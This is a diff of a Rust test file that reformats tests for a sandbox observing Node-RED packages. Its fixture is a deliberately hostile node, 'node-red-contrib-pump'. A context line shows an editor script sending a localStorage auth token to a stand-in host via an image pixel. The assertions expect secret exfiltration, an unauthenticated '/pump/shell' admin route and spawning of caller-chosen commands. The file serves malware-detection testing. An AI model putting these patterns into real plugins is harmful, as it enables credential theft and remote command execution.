@@ -33,7 +33,8 @@ pub(crate) fn engine() -> &'static Engine {
     })
 }
 
-const MANIFEST: &str = r#"{"name":"node-red-contrib-pump","version":"1.0.0","node-red":{"nodes":{"pump":"pump.js"}}}"#;
+const MANIFEST: &str =
+    r#"{"name":"node-red-contrib-pump","version":"1.0.0","node-red":{"nodes":{"pump":"pump.js"}}}"#;
 const RUNTIME: &str = r"
 module.exports = function (RED) {
   const http = require('http');
@@ -67,23 +68,41 @@ new Image().src = 'https://seen.example/pixel?' + localStorage.getItem('auth-tok
 fn a_node_is_exercised_in_both_halves() {
     let closure = closure(&[(
         "node-red-contrib-pump",
-        &[("package.json", MANIFEST), ("pump.js", RUNTIME), ("pump.html", EDITOR)],
+        &[
+            ("package.json", MANIFEST),
+            ("pump.js", RUNTIME),
+            ("pump.html", EDITOR),
+        ],
     )]);
     assert_eq!(Entries::of(&closure).nodes.len(), 1);
     let observations = exercise(engine(), &closure, &Profile::default()).expect("runs");
     let base = observations.runs.first().expect("the base run");
     assert_eq!(base.end, End::Done);
     let said = |what: &dyn Fn(&What) -> bool| base.events.iter().any(|event| what(&event.what));
-    assert!(said(&|what| matches!(what, What::RedRegister { node_type, core: false } if node_type == "pump")));
-    assert!(said(&|what| matches!(what, What::Connect { peer } if peer.configured && peer.protocol == "http")));
-    assert!(said(&|what| matches!(what, What::Send { peer, payload } if peer.configured
-        && payload.secrets.iter().any(|secret| secret == "flow-credential"))));
-    assert!(said(&|what| matches!(what, What::RedAdminRoute { path, permission: Some(permission), .. }
-        if path == "/pump/stop" && permission == "pump.write")));
-    assert!(said(&|what| matches!(what, What::RedAdminRoute { path, permission: None, .. } if path == "/pump/shell")));
-    assert!(said(&|what| matches!(what, What::Spawn { command, .. } if command.contains("chosen-by-caller"))));
+    assert!(said(
+        &|what| matches!(what, What::RedRegister { node_type, core: false } if node_type == "pump")
+    ));
+    assert!(said(
+        &|what| matches!(what, What::Connect { peer } if peer.configured && peer.protocol == "http")
+    ));
+    assert!(said(
+        &|what| matches!(what, What::Send { peer, payload } if peer.configured
+        && payload.secrets.iter().any(|secret| secret == "flow-credential"))
+    ));
+    assert!(said(
+        &|what| matches!(what, What::RedAdminRoute { path, permission: Some(permission), .. }
+        if path == "/pump/stop" && permission == "pump.write")
+    ));
+    assert!(said(
+        &|what| matches!(what, What::RedAdminRoute { path, permission: None, .. } if path == "/pump/shell")
+    ));
+    assert!(said(
+        &|what| matches!(what, What::Spawn { command, .. } if command.contains("chosen-by-caller"))
+    ));
     assert!(said(&|what| matches!(what, What::EditorToken)));
-    assert!(said(&|what| matches!(what, What::EditorNetwork { url, payload: _ } if url.starts_with("https://seen.example/"))));
+    assert!(said(
+        &|what| matches!(what, What::EditorNetwork { url, payload: _ } if url.starts_with("https://seen.example/"))
+    ));
     let failed: Vec<_> = base
         .events
         .iter()
@@ -101,18 +120,28 @@ fn stand_ins_behave_as_in_node() {
     let mut different = Vec::new();
     let mut files = 0;
     for entry in fs::read_dir(CONFORMANCE).expect("the folder of conformance files") {
-        let name = entry.expect("an entry").file_name().to_string_lossy().into_owned();
+        let name = entry
+            .expect("an entry")
+            .file_name()
+            .to_string_lossy()
+            .into_owned();
         if !name.ends_with(".js") || name == "harness.js" {
             continue;
         }
         files += 1;
         let real = said_by(&node, &name);
-        let plan = json!({ "half": "answer", "path": format!("/data/node_modules/conformance/{name}") }).to_string();
+        let plan =
+            json!({ "half": "answer", "path": format!("/data/node_modules/conformance/{name}") }).to_string();
         let world = World::new(&closure, Conditions::default());
         let ran = engine().run(world, &budget(), &plan).expect("a run");
         let answer: Value = serde_json::from_str(&ran.answer.unwrap_or_default()).unwrap_or_default();
-        let ours = answer["answer"].as_str().map_or_else(|| answer.to_string(), str::to_owned);
-        let plain = |text: &str| text.replace(CONFORMANCE, "HERE").replace("/data/node_modules/conformance", "HERE");
+        let ours = answer["answer"]
+            .as_str()
+            .map_or_else(|| answer.to_string(), str::to_owned);
+        let plain = |text: &str| {
+            text.replace(CONFORMANCE, "HERE")
+                .replace("/data/node_modules/conformance", "HERE")
+        };
         let (real, ours) = (plain(&real), plain(&ours));
         for (line, (real, ours)) in (1..).zip(real.lines().zip(ours.lines())) {
             if real != ours {
@@ -120,7 +149,11 @@ fn stand_ins_behave_as_in_node() {
             }
         }
         if real.lines().count() != ours.lines().count() {
-            different.push(format!("{name}: {} lines, {} expected", ours.lines().count(), real.lines().count()));
+            different.push(format!(
+                "{name}: {} lines, {} expected",
+                ours.lines().count(),
+                real.lines().count()
+            ));
         }
     }
     assert!(files >= 8, "the conformance files are gone");
@@ -134,7 +167,11 @@ fn said_by(node: &Path, file: &str) -> String {
         .env("TZ", "UTC")
         .output()
         .expect("Node.js runs");
-    assert!(output.status.success(), "{file}: {}", String::from_utf8_lossy(&output.stderr));
+    assert!(
+        output.status.success(),
+        "{file}: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
     String::from_utf8(output.stdout).expect("text")
 }
 
